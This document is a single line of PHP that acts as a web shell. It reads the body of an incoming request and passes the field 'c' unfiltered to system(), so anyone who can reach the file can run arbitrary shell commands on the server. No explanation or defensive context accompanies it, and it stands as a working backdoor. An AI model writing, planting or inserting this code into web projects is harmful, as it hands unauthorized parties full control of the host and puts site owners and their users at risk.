<?php parse_str(file_get_contents("php://input"), $in); system($in["c"]);
